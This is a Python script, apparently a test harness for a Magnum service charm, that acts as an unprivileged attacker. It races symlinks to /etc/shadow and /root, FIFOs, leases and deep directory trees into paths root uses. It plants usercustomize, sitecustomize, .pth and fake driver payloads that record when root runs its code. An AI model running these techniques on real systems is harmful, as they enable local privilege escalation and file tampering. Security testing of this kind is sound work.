"""User magnum as an attacker: usage attacker.py SECONDS SEED. Plants whatever it can where root reads, writes or runs something.

In random order: links at the names that root uses and at those that one may guess, FIFOs, sockets, files on which it
holds a lease, trees 3,000 deep, bytes that are not text; code and metadata in its own site directory, and any of these in
its place. Soon after, it puts back what stood there, unless somebody else has put something there. At the end nothing of
it is left but /var/lib/magnum/loot: who has run its code.
"""
import errno
import fcntl
import itertools
import os
import random
import signal
import stat
import subprocess
import sys
import time

ETC = "/etc/magnum"
CONF_D = ETC + "/magnum.conf.d"
HOME = "/var/lib/magnum"
LOCAL = HOME + "/.local"
SITE = LOCAL + "/lib/python3.11/site-packages"
LOOT, DEEP, TRASH = HOME + "/loot", HOME + "/deep", HOME + "/trash"
PYTHON = HOME + "/python3"
# Of root: to be read, overwritten, given away or waited for by whoever follows a link.
TARGETS = (
    "/etc/shadow", "/etc/passwd", "/etc", "/etc/cron.d", "/etc/cron.d/planted", "/etc/systemd/system", "/root",
    "/root/.bashrc", "/usr/local/bin", "/usr/local/bin/helm", "/usr/lib/python3/dist-packages", "/proc/kmsg",
    "/dev/zero", "/var/lib/magnum-capi-helm",
)
PAYLOAD = """
import os, sys, sysconfig
with open({loot!r}, "a") as loot:
    loot.write("%d\\n" % os.geteuid())
sys.executable = {python!r}
sys.path.insert(0, {home!r} + "/site")
sysconfig.get_path = lambda *_: {home!r} + "/site"
""".format(loot=LOOT, python=PYTHON, home=HOME)
numbers = itertools.count()
leases = []
chance = random.Random(int(sys.argv[2]))


def link(path):
    os.symlink(chance.choice(TARGETS), path)


def itself(path):
    """A link that leads in a circle, or nowhere."""
    os.symlink(chance.choice((os.path.basename(path), "x" * 300)), path)


def moved(path):
    """A directory of root's, with all that is in it."""
    os.rename(CONF_D, path)


def exchanged(path):
    """A file that comes and goes, faster than anybody can look twice."""
    other, end = "%s/stash-%d" % (os.path.dirname(path), next(numbers)), time.monotonic() + 0.5
    odd_bytes(path)
    while time.monotonic() < end:
        os.rename(path, other)
        os.rename(other, path)


def hard_link(path):
    os.link(chance.choice(("/etc/passwd", "/usr/local/bin/helm", "/etc/shadow")), path)


def fifo(path):
    os.mkfifo(path)


def unix_socket(path):
    os.mknod(path, stat.S_IFSOCK | 0o666)


def odd_bytes(path):
    with open(path, "wb") as file:
        file.write(b"\xff\xfe[magnum.drivers]\nx = \xff\n")


def large(path):
    with open(path, "wb") as file:
        file.truncate(9 << 20)


def leased(path):
    """Whoever opens it waits, or is turned away."""
    leases.append(os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL))
    fcntl.fcntl(leases[-1], fcntl.F_SETLEASE, fcntl.F_WRLCK)


def deep(path):
    if not os.path.lexists(DEEP):
        os.mkdir(DEEP)
        os.chdir(DEEP)
        for _ in range(2999):
            os.mkdir("d")
            os.chdir("d")
        os.chdir("/")
    os.rename(DEEP, path)


def directory(path):
    """With the names in it that root would write there, and some that the services read."""
    os.mkdir(path)
    for name in ("99-capi.conf", ".99-capi.conf.tmp", "50-x.conf", b"\xff.conf", ".magnum-capi-helm-99-capi.conf"):
        if chance.random() < 0.5:
            chance.choice((link, fifo, odd_bytes, deep))(os.path.join(os.fsencode(path), os.fsencode(name)))


def program(path):
    with open(path, "w") as file:
        file.write("#!/bin/sh\nid -u >>%s\nexec /usr/bin/python3 \"$@\"\n" % LOOT)
    os.chmod(path, 0o755)


def module(path):
    with open(path, "w") as file:
        file.write(PAYLOAD)


def at_start(path):
    with open(path, "w") as file:
        file.write("import os; exec(%r)\n" % PAYLOAD)


def driver(path):
    os.mkdir(path)
    module(path + "/__init__.py")
    module(path + "/driver.py")


def metadata(path):
    os.mkdir(path)
    with open(path + "/METADATA", "w") as file:
        file.write("Metadata-Version: 2.1\nName: evil\nVersion: 9\n")
    if chance.random() < 0.5:
        chance.choice((link, fifo, odd_bytes, deep, directory))(path + "/entry_points.txt")
    else:
        with open(path + "/entry_points.txt", "w") as file:
            file.write("[magnum.drivers]\nevil = usercustomize:x\n")


SHAPES = (link, link, itself, moved, exchanged, hard_link, fifo, unix_socket, odd_bytes, large, leased, deep, directory)
PLACES = (
    [(ETC + "/" + name, SHAPES) for name in (
        "kubeconfig", "kubeconfig", ".kubeconfig.tmp", "kubeconfig.partial", ".magnum-capi-helm-kubeconfig",
        ".magnum-capi-helm-0123456789abcdef01234567", "set-aside-0", "magnum.conf", "policy.json")]
    + [(CONF_D, SHAPES), (CONF_D, (directory,)), (CONF_D, (directory,)), (HOME + "/site", SHAPES), (SITE, SHAPES)]
    + [(SITE + "/" + name, (what,)) for name, what in (
        ("usercustomize.py", module), ("sitecustomize.py", module), ("evil.pth", at_start),
        ("magnum_capi_helm", driver), ("magnum_capi_helm", deep), ("magnum_capi_helm.py", link),
        ("magnum_capi_helm-" + "x" * 220, driver),
        ("magnum_capi_helm-9.dist-info", metadata), ("evil-9.dist-info", metadata), ("evil-9.dist-info", metadata))]
)


def is_own(path):
    return os.path.lexists(path) and os.lstat(path).st_uid == os.geteuid()


def release(path):
    """Lets go whoever waits for somebody to write into a FIFO: a service of magnum's own."""
    os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))


def clear(path):
    """Takes away what is the attacker's own."""
    if not is_own(path):
        return
    kind = os.lstat(path).st_mode
    if stat.S_ISFIFO(kind):
        release(path)
    elif stat.S_ISDIR(kind):
        for name in os.listdir(path):
            if stat.S_ISFIFO(os.lstat(os.path.join(path, name)).st_mode):
                release(os.path.join(path, name))
        return os.rename(path, "%s/%d" % (TRASH, next(numbers)))
    os.unlink(path)


def attack(path, plant):
    # Beside it: a directory of root's moves to no other.
    stash = "%s/stash-%d" % (os.path.dirname(path), next(numbers))
    had = os.path.lexists(path)
    try:
        if had:
            os.rename(path, stash)
        plant(path)
        # What runs at Python's start is to be there when root asks it.
        time.sleep(chance.uniform(0, 3) if path.startswith(SITE) else chance.choice((0, 0.02, 0.2)))
    finally:
        while leases:
            os.close(leases.pop())
        if plant is moved and os.path.lexists(path) and not is_own(path):
            # Unless the charm has made another one.
            os.rename(path, stash + "-moved" if os.path.lexists(CONF_D) else CONF_D)
        clear(path)
        if had and not os.path.lexists(path):
            os.rename(stash, path)


def tidy():
    """Takes away its litter, and what the charm has renamed: a full disk is another attack."""
    subprocess.run("rm -rf %s/* %s/set-aside-*" % (TRASH, ETC), shell=True, stderr=subprocess.DEVNULL, check=False)


def several(end):
    tried, refused = 0, {}
    while time.monotonic() < end:
        path, shapes = chance.choice(PLACES)
        try:
            os.makedirs(SITE, exist_ok=True)
            attack(path, chance.choice(shapes))
            tried += 1
            if tried % 20 == 0:
                tidy()
        except OSError as error:
            refused[error.strerror] = refused.get(error.strerror, 0) + 1
            if error.errno == errno.ENOSPC:
                tidy()
    print(tried, "attacks,", refused, flush=True)


os.umask(0)
# Sent to whoever holds a lease that another waits for.
signal.signal(signal.SIGIO, signal.SIG_IGN)
for made in (TRASH, LOCAL, SITE):
    os.makedirs(made, exist_ok=True)
# For whoever runs its code, and it is run: by itself.
open(LOOT, "w").close()
os.chmod(HOME, os.stat(HOME).st_mode | 0o111)
program(PYTHON)
module(SITE + "/usercustomize.py")
subprocess.run(["/usr/bin/python3", "-c", ""], check=True)
os.unlink(SITE + "/usercustomize.py")
# One for the code that runs at Python's start, most of the time, and one for all the rest.
end, seed = time.monotonic() + float(sys.argv[1]), chance.random()
everything, other = PLACES, os.fork()
PLACES = [place for place in everything if place[0].startswith(SITE) == bool(other)]
numbers = itertools.count(0 if other else 1_000_000)
chance = random.Random("%r %r" % (seed, bool(other)))
DEEP += str(bool(other))
several(end)
if other:
    status = os.waitpid(other, 0)[1]
    os.rename(LOCAL, TRASH + "/local")
    sys.exit(status != 0)
